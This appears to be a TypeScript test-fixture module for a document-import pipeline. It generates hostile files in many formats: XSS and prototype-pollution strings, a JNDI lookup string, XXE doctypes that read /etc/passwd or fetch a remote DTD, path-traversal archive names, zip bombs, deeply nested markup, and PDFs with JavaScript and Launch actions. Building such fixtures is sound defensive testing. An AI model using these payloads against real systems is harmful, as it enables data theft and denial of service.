import { makeDocx, p } from './make-docx.ts';
import { makeMsg } from './make-msg.ts';
import { makeOdt } from './make-odt.ts';
import { makePdf } from './make-pdf.ts';
import { makeZip } from './make-zip.ts';
import type { ZipPart } from './make-zip.ts';
import { httpAnswer, warcFile } from './make-warc.ts';

/** A file made to do harm. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array | string;
}

const onEvents = ['onerror', 'onload', 'onclick', 'onpointerover', 'onbeforetoggle', 'onfocus', 'onanimationend'];

/** Texts that would run or load something where a text is taken for more than a text. */
export const vectors: readonly string[] = [
  ...onEvents.map((event) => `<img src=x ${event}=globalThis.polluted=1>`),
  '<script>globalThis.polluted=1</script>',
  '<svg><script>1</script><animate attributeName=href to=javascript:1 /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=1></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=1>"></noscript>',
  '<a href="javascript:alert(1)">Karte</a>',
  '<a href="java\tscript:alert(1)">Karte</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">Karte</a>',
  '<a href="\u0001javascript:alert(1)">Karte</a>',
  '<a href="data:text/html,<script>1</script>">Karte</a>',
  '<a href="file:///etc/passwd">Karte</a>',
  '<a href="\\\\fremd.example\\teil">Karte</a>',
  '<a href="https://nutzer:wort@fremd.example">Karte</a>',
  '<iframe src="https://fremd.example"></iframe>',
  '<link rel=stylesheet href="https://fremd.example/a.css"><style>@import "https://fremd.example/b.css"</style>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="javascript:1//">',
  '<form action="https://fremd.example"><input name=a><button formaction=javascript:1>Los</button></form>',
  '<object data="https://fremd.example"></object><embed src="javascript:1">',
  '[Karte](javascript:alert(1)) ![Bild](data:text/html,x) [a]: vbscript:x',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  '{{constructor.constructor("return this")()}}',
  '=HYPERLINK("https://fremd.example";"Karte")',
  '\u202egpj.exe\u202c \u2066verkehrt\u2069',
  '../../../../etc/passwd',
  'Wort\u0000Ende',
  '${jndi:ldap://fremd.example/a}',
  '&lt;script&gt;1&lt;/script&gt;',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">',
];

const escaped = (text: string): string =>
  text
    .replace(/[\u0000-\u0008]/g, '')
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
const sentence = 'Die Stadt Hohenau zeigt seit Montag auf einer Karte, wo das Netz gestört ist und wie lange die Arbeiten noch dauern.';
const oneLine = (text: string): string => text.replace(/[\r\n\u0000]/g, ' ');

/** One hostile text in every field of every format that has text fields. */
export function inEveryField(vector: string): HostileFile[] {
  const v = vector;
  const e = escaped(v);
  const page = `<!doctype html><html><head><title>${v}</title><meta name="description" content="${e}"><meta property="og:title" content="${e}"><meta property="og:url" content="${e}"><link rel="canonical" href="${e}"><script type="application/ld+json">${JSON.stringify({ '@type': 'NewsArticle', headline: v, url: v, author: { name: v }, datePublished: v, __proto__: { polluted: 1 } })}</script></head><body ${v}><article><h1>${v}</h1><p class="author">Von ${v}</p><p>${sentence} ${v}</p><a href="${e}">Karte</a><img src="${e}" alt="${e}"><figure><img srcset="${e} 2x"><figcaption>${v}</figcaption></figure></article></body></html>`;
  const mime = `From: "${oneLine(v)}" <a@b.example>\r\nTo: ${oneLine(v)}\r\nSubject: ${oneLine(v)}\r\nX-${oneLine(v)}: 1\r\n__proto__: polluted\r\nDate: ${oneLine(v)}\r\nContent-Type: multipart/mixed; boundary="g"\r\n\r\n`;
  const parts = (main: string): string =>
    `--g\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ${oneLine(v)}\r\n\r\n${main}\r\n--g\r\nContent-Type: text/plain; name="${oneLine(v)}"\r\nContent-Disposition: attachment; filename="${oneLine(v)}.txt"\r\n\r\n${sentence}\r\n--g--\r\n`;
  const record = { title: v, text: sentence, [v]: v, url: v, author: v };
  return [
    { name: 'seite.html', bytes: page },
    { name: 'seite.mhtml', bytes: `Snapshot-Content-Location: ${oneLine(v)}\r\n${mime}${parts(page)}` },
    { name: 'brief.eml', bytes: `${mime}${parts(`<p>${sentence} ${v}</p><img src="cid:${e}">`)}` },
    {
      name: 'brief.msg',
      bytes: makeMsg({
        subject: v,
        senderName: v,
        headers: `Subject: ${oneLine(v)}`,
        html: page,
        attachments: [{ name: v, bytes: new TextEncoder().encode(sentence) }],
      }),
    },
    { name: 'text.txt', bytes: `${v}\n\n${sentence}\n\n${v}` },
    { name: 'text.md', bytes: `---\ntitle: ${v}\n__proto__: ${v}\nurl: ${v}\n---\n\n# ${v}\n\n${sentence} ${v}` },
    {
      name: 'wort.docx',
      bytes: makeDocx({
        body: `${p(v.replace(/[\u0000-\u0008]/g, ''))}${p(sentence)}<w:p><w:hyperlink r:id="x"><w:r><w:t>Karte</w:t></w:r></w:hyperlink></w:p>`,
        core: `<dc:title>${e}</dc:title><dc:creator>${e}</dc:creator><cp:keywords>${e}</cp:keywords>`,
        relations: [`x|hyperlink|${e}|External`, `y|image|${e}|External`],
      }),
    },
    {
      name: 'text.odt',
      bytes: makeOdt({
        body: `<text:h text:outline-level="1">${e}</text:h><text:p>${sentence}<text:a xlink:href="${e}">Karte</text:a></text:p>`,
        meta: `<dc:title>${e}</dc:title><dc:creator>${e}</dc:creator>`,
      }),
    },
    {
      name: 'text.rtf',
      bytes: `{\\rtf1\\ansi{\\info{\\title ${v}}{\\author ${v}}}{\\b ${v}}\\par ${sentence}\\par{\\field{\\*\\fldinst HYPERLINK "${v}"}{\\fldrslt Karte}}\\par{\\object\\objdata 4d5a}}`,
    },
    {
      name: 'feed.xml',
      bytes: `<?xml version="1.0"?><rss version="2.0"><channel><title>${e}</title><link>${e}</link><item><title>${e}</title><link>${e}</link><guid>${e}</guid><author>${e}</author><category>${e}</category><enclosure url="${e}" type="image/png"/><description>${e} ${sentence}</description></item></channel></rss>`,
    },
    {
      name: 'feed.json',
      bytes: JSON.stringify({
        version: 'https://jsonfeed.org/version/1.1',
        title: v,
        items: [{ id: v, url: v, external_url: v, image: v, title: v, content_html: `${sentence} ${v}`, authors: [{ name: v }], [v]: v }],
      }),
    },
    {
      name: 'daten.json',
      bytes: `[{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, ${JSON.stringify(record).slice(1)}]`,
    },
    {
      name: 'daten.jsonl',
      bytes: `${JSON.stringify(record)}\n{"__proto__": {"polluted": 1}, "title": "Karte", "text": ${JSON.stringify(sentence)}}\n`,
    },
    {
      name: 'daten.csv',
      bytes: `__proto__;constructor;titel;text;"${v.replaceAll('"', '""')}"\n1;2;"${v.replaceAll('"', '""')}";${sentence};"${v.replaceAll('"', '""')}"\n3;4;Karte;${sentence};x\n`,
    },
    { name: 'link.url', bytes: `[InternetShortcut]\r\nURL=${oneLine(v)}\r\nIconFile=${oneLine(v)}\r\n` },
    {
      name: 'blatt.pdf',
      bytes: makePdf(
        [
          {
            texts: [{ text: sentence.slice(0, 80), x: 60, y: 700 }],
            links: [{ uri: v.replace(/[^\u0020-\u007e]/g, ''), rect: [0, 0, 600, 800] }],
          },
        ],
        `/Info << /Title (${v.replace(/[^\u0020-\u007e]|[()\\]/g, '')}) >>`,
      ),
    },
    {
      name: 'mappe.zip',
      bytes: makeZip([
        { name: v, bytes: sentence },
        { name: `ordner/${v}.html`, bytes: page },
      ]),
    },
    { name: 'seiten.warc', bytes: warcFile([{ type: 'response', url: oneLine(v), block: httpAnswer(page) }]) },
  ];
}

const many = (count: number, part: (index: number) => ZipPart): ZipPart[] => Array.from({ length: count }, (_, index) => part(index));
const zeros = (size: number): Uint8Array => new Uint8Array(size);
const textPart = { name: 'meldung.txt', bytes: sentence };

/** Archives that lie about what they hold. */
export const hostileArchives: readonly HostileFile[] = [
  { name: 'bombe.zip', bytes: makeZip([{ name: 'a.txt', bytes: zeros(60_000_000) }]) },
  { name: 'bombe-klein.zip', bytes: makeZip(many(12, (index) => ({ name: `${String(index)}.txt`, bytes: zeros(3_000_000) }))) },
  { name: 'bombe.docx', bytes: makeZip([{ name: 'word/document.xml', bytes: zeros(60_000_000) }]) },
  {
    name: 'bombe.xlsx',
    bytes: makeZip([
      { name: '[Content_Types].xml', bytes: '<Types/>' },
      { name: 'xl/workbook.xml', bytes: zeros(60_000_000) },
    ]),
  },
  { name: 'viele.zip', bytes: makeZip(many(70_000, (index) => ({ name: `${String(index)}.txt`, bytes: 'x', stored: true }))) },
  { name: 'null.zip', bytes: makeZip([{ ...textPart, declared: 0 }]) },
  { name: 'vier-gb.zip', bytes: makeZip([{ ...textPart, declared: 0xff_ff_ff_ff }]) },
  { name: 'vier-gb-fast.zip', bytes: makeZip([{ ...textPart, declared: 0xff_ff_ff_fe }]) },
  {
    name: 'ueberlappt.zip',
    bytes: makeZip([
      { ...textPart, stored: true },
      { name: 'zwei.txt', bytes: sentence, stored: true, offset: 0 },
    ]),
  },
  { name: 'ausserhalb.zip', bytes: makeZip([{ ...textPart, offset: 0x7f_ff_ff_ff }]) },
  { name: 'crc.zip', bytes: makeZip([{ ...textPart, crc: 1 }]) },
  { name: 'packart.zip', bytes: makeZip([{ ...textPart, method: 99 }]) },
  { name: 'gleich.zip', bytes: makeZip([textPart, textPart, textPart]) },
  { name: 'archiv-im-archiv.zip', bytes: makeZip([{ name: 'innen.zip', bytes: makeZip([textPart]) }]) },
  ...[
    '../../auto.txt',
    '/etc/passwd.txt',
    'C:\\windows\\a.txt',
    '..\\..\\a.txt',
    'a\u0000.txt',
    '\u202etxt.exe',
    '',
    '.',
    'CON.txt',
    'a/'.repeat(2_000) + 'b.txt',
    `${'x'.repeat(60_000)}.txt`,
    '__proto__',
    'constructor/prototype.txt',
  ].map((name, index): HostileFile => ({ name: `name-${String(index)}.zip`, bytes: makeZip([{ name, bytes: sentence }, textPart]) })),
  {
    name: 'word-aussen.docx',
    bytes: makeDocx({ body: p(sentence), relations: ['a|image|file:///dev/zero|External', 'b|image|../../../etc/passwd'] }),
  },
  { name: 'ohne-text.docx', bytes: makeZip([{ name: 'word/document.xml', bytes: '' }]) },
  {
    name: 'schleife.docx',
    bytes: makeDocx({
      body: p(sentence),
      styles:
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>',
    }),
  },
];

const doctypes = [
  '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
  '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://fremd.example/x.dtd"> %p;]>',
  '<!DOCTYPE x [<!ENTITY c SYSTEM "file:///etc/passwd">]>',
];
const word = (body: string, doctype = ''): Uint8Array =>
  makeZip([
    { name: '[Content_Types].xml', bytes: '<Types/>' },
    {
      name: 'word/document.xml',
      bytes: `<?xml version="1.0"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    },
  ]);

/** Entities in XML, and markup that is nested without end. */
export const hostileMarkup: readonly HostileFile[] = [
  ...doctypes.flatMap((doctype, index): HostileFile[] => [
    { name: `dtd-${String(index)}.docx`, bytes: word(`<w:p><w:r><w:t>&c; ${sentence}</w:t></w:r></w:p>`, doctype) },
    {
      name: `dtd-${String(index)}.xml`,
      bytes: `<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>&c;</title><item><title>Karte &c;</title><description>${sentence}</description></item></channel></rss>`,
    },
    {
      name: `dtd-${String(index)}.fodt`,
      bytes: `<?xml version="1.0"?>${doctype}<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:mimetype="application/vnd.oasis.opendocument.text"><office:body>&c;</office:body></office:document>`,
    },
    { name: `dtd-${String(index)}.html`, bytes: `${doctype}<html><body><p>&c; ${sentence}</p></body></html>` },
  ]),
  { name: 'tief.html', bytes: `<!doctype html>${'<div>'.repeat(100_000)}${sentence}` },
  { name: 'tief-b.html', bytes: `<!doctype html><p>${'<b>'.repeat(20_000)}${sentence}` },
  { name: 'tief-tabelle.html', bytes: `<!doctype html>${'<table><tr><td>'.repeat(3_000)}${sentence}` },
  { name: 'tief-liste.html', bytes: `<!doctype html>${'<ul><li>'.repeat(20_000)}${sentence}` },
  { name: 'tief-svg.html', bytes: `<!doctype html>${'<svg><foreignObject>'.repeat(5_000)}${sentence}` },
  { name: 'tief.json', bytes: `${'['.repeat(10_000)}1${']'.repeat(10_000)}` },
  { name: 'tief-objekt.json', bytes: `${'{"a":'.repeat(10_000)}"${sentence}"${'}'.repeat(10_000)}` },
  { name: 'tief.jsonl', bytes: `${`${'['.repeat(5_000)}\n`.repeat(20)}` },
  { name: 'tief.docx', bytes: word(`${'<w:sdt><w:sdtContent>'.repeat(10_000)}${p(sentence)}${'</w:sdtContent></w:sdt>'.repeat(10_000)}`) },
  {
    name: 'tief-tabelle.docx',
    bytes: word(`${'<w:tbl><w:tr><w:tc>'.repeat(3_000)}${p(sentence)}${'</w:tc></w:tr></w:tbl>'.repeat(3_000)}`),
  },
  {
    name: 'tief.odt',
    bytes: makeOdt({ body: `${'<text:section>'.repeat(10_000)}<text:p>${sentence}</text:p>${'</text:section>'.repeat(10_000)}` }),
  },
  { name: 'tief.xml', bytes: `<?xml version="1.0"?><rss version="2.0"><channel>${'<item>'.repeat(10_000)}<title>Karte</title>` },
  { name: 'tief.rtf', bytes: `{\\rtf1 ${'{'.repeat(200_000)}${sentence}` },
  { name: 'tief.md', bytes: `# Karte\n\n${'> '.repeat(5_000)}${sentence}\n\n${'['.repeat(20_000)}\n\n${'*a **b '.repeat(5_000)}` },
  {
    name: 'attribute.html',
    bytes: `<!doctype html><p ${Array.from({ length: 50_000 }, (_, index) => `a${String(index)}=1`).join(' ')}>${sentence}</p>`,
  },
  { name: 'kommentare.html', bytes: `<!doctype html>${'<!--'.repeat(50_000)}${sentence}` },
  { name: 'offen.html', bytes: `<!doctype html><p>${sentence}</p>${'<a '.repeat(100_000)}` },
  { name: 'spitz.txt', bytes: '<'.repeat(200_000) + sentence },
  { name: 'klammern.txt', bytes: `${'('.repeat(100_000)}${sentence}${')'.repeat(100_000)}` },
  { name: 'leerzeichen.txt', bytes: `${sentence}${' '.repeat(300_000)}x${'\t'.repeat(300_000)}${sentence}` },
  { name: 'anfuehrung.csv', bytes: `titel;text\n${'"'.repeat(100_001)};x\n${'""""'.repeat(10_000)}` },
  {
    name: 'spalten.csv',
    bytes: `${Array.from({ length: 20_000 }, (_, index) => `s${String(index)}`).join(';')}\n${'x;'.repeat(20_000)}\n`,
  },
];

const nested = (depth: number): string =>
  depth === 0
    ? `Content-Type: text/plain\r\n\r\n${sentence}\r\n`
    : Array.from(
        { length: depth },
        (_, index) => `Content-Type: multipart/mixed; boundary="g${String(index)}"\r\n\r\n--g${String(index)}\r\n`,
      ).join('') + `Content-Type: text/plain\r\n\r\n${sentence}\r\n`;
const from = 'From: a@b.example\r\nTo: c@d.example\r\nSubject: Karte\r\n';

/** Mails with too much of everything. */
export const hostileMails: readonly HostileFile[] = [
  { name: 'tief-9.eml', bytes: from + nested(9) },
  { name: 'tief-300.eml', bytes: from + nested(300) },
  {
    name: 'brief-im-brief.eml',
    bytes: Array.from({ length: 300 }, () => `${from}Content-Type: message/rfc822\r\n\r\n`).join('') + `${from}\r\n${sentence}`,
  },
  {
    name: 'koepfe.eml',
    bytes: `${from}${Array.from({ length: 100_000 }, (_, index) => `X-${String(index)}: ${String(index)}\r\n`).join('')}\r\n${sentence}`,
  },
  { name: 'langer-kopf.eml', bytes: `From: a@b.example\r\nSubject: ${'=?utf-8?q?a?= '.repeat(50_000)}\r\n\r\n${sentence}` },
  {
    name: 'empfaenger.eml',
    bytes: `From: a@b.example\r\nTo: ${Array.from({ length: 50_000 }, (_, index) => `x${String(index)}@b.example`).join(', ')}\r\nSubject: Karte\r\n\r\n${sentence}`,
  },
  { name: 'base64.eml', bytes: `${from}Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n${'QUJD'.repeat(500_000)}` },
  {
    name: 'kreis.eml',
    bytes: `${from}Content-Type: multipart/related; boundary=g\r\n\r\n--g\r\nContent-Type: text/html\r\nContent-ID: <a>\r\n\r\n<p>${sentence}</p><img src="cid:a"><iframe src="cid:a"></iframe>\r\n--g--`,
  },
  { name: 'grenze.eml', bytes: `${from}Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\n${sentence}\r\n--\r\n`.repeat(50) },
  {
    name: 'grenzen.eml',
    bytes: `${from}Content-Type: multipart/mixed; boundary=g\r\n\r\n${'--g\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(20_000)}--g--`,
  },
  { name: 'zitate.eml', bytes: `${from}\r\n${Array.from({ length: 300 }, (_, index) => `${'>'.repeat(index)} ${sentence}`).join('\r\n')}` },
];

const pdfWith = (objects: readonly string[], trailer = '/Root 1 0 R', version = '%PDF-1.7\n'): string => {
  let text = version;
  const places: number[] = [];
  for (const [index, body] of objects.entries()) {
    places.push(text.length);
    text += `${String(index + 1)} 0 obj\n${body}\nendobj\n`;
  }
  const start = text.length;
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  return `${text}xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n${table}trailer\n<< /Size ${String(objects.length + 1)} ${trailer} >>\nstartxref\n${String(start)}\n%%EOF\n`;
};
const content = '<< /Length 60 >>\nstream\nBT /F1 12 Tf 60 700 Td (Die Stadt Hohenau zeigt eine Karte.) Tj ET\nendstream';
const sheet = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); globalThis.polluted=1//)] >>';
const catalog = (more = ''): string => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const pages = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>';

/** Documents with actions, loops and lies about their own size. */
export const hostilePdfs: readonly HostileFile[] = [
  { name: 'js.pdf', bytes: pdfWith([catalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), pages, sheet, content, font]) },
  { name: 'start.pdf', bytes: pdfWith([catalog('/OpenAction << /S /Launch /F (calc.exe) >>'), pages, sheet, content, font]) },
  {
    name: 'adresse.pdf',
    bytes: pdfWith([
      catalog('/OpenAction << /S /URI /URI (https://fremd.example) >> /AA << /WC << /S /JavaScript /JS (1) >> >>'),
      pages,
      sheet,
      content,
      font,
    ]),
  },
  {
    name: 'formular.pdf',
    bytes: pdfWith([catalog('/AcroForm << /XFA (<xdp:xdp xmlns:xdp="x"><script>1</script></xdp:xdp>) >>'), pages, sheet, content, font]),
  },
  { name: 'kreis.pdf', bytes: pdfWith([catalog(), '<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>', sheet, content, font]) },
  {
    name: 'kreis-eltern.pdf',
    bytes: pdfWith([catalog(), pages, '<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>', content, font]),
  },
  { name: 'millionen-seiten.pdf', bytes: pdfWith([catalog(), '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>', sheet, content, font]) },
  {
    name: 'tabelle-kreis.pdf',
    bytes: `%PDF-1.4\n1 0 obj\n${catalog()}\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 2 /Root 1 0 R /Prev 60 >>\nstartxref\n60\n%%EOF`,
  },
  { name: 'laenge-kreis.pdf', bytes: pdfWith([catalog(), pages, sheet, '<< /Length 4 0 R >>\nstream\nBT ET\nendstream', font]) },
  {
    name: 'viele-objekte.pdf',
    bytes: pdfWith([catalog(), pages, sheet, content, font, ...Array.from({ length: 100_000 }, (_, index) => `<< /A ${String(index)} >>`)]),
  },
  { name: 'tiefe-klammern.pdf', bytes: pdfWith([catalog(`/X ${'['.repeat(20_000)}`), pages, sheet, content, font]) },
  {
    name: 'filter-kette.pdf',
    bytes: pdfWith([
      catalog(),
      pages,
      sheet,
      `<< /Length 4 /Filter [${'/ASCIIHexDecode '.repeat(5_000)}] >>\nstream\n4142\nendstream`,
      font,
    ]),
  },
  {
    name: 'schluessel.pdf',
    bytes: pdfWith(
      [catalog(), pages, sheet, content, font],
      '/Root 1 0 R /Encrypt << /Filter /Standard /V 9 /R 99 /O (x) /U (x) /P -1 >> /ID [(a) (b)]',
    ),
  },
  { name: 'nur-kopf.pdf', bytes: '%PDF-1.7\n' },
  { name: 'kein-ende.pdf', bytes: `%PDF-1.7\n${'1 0 obj\n'.repeat(50_000)}` },
];

/** Names that are more than a name. */
export const hostileNames: readonly string[] = [
  '../../../etc/passwd',
  'C:\\fakepath\\a.txt',
  'a\u0000b.txt',
  '\u202etxt.exe',
  '<img src=x onerror=alert(1)>.txt',
  '{name}{limit}',
  '$&$1',
  '__proto__',
  'constructor',
  'x'.repeat(5_000),
  '.',
  ' ',
];
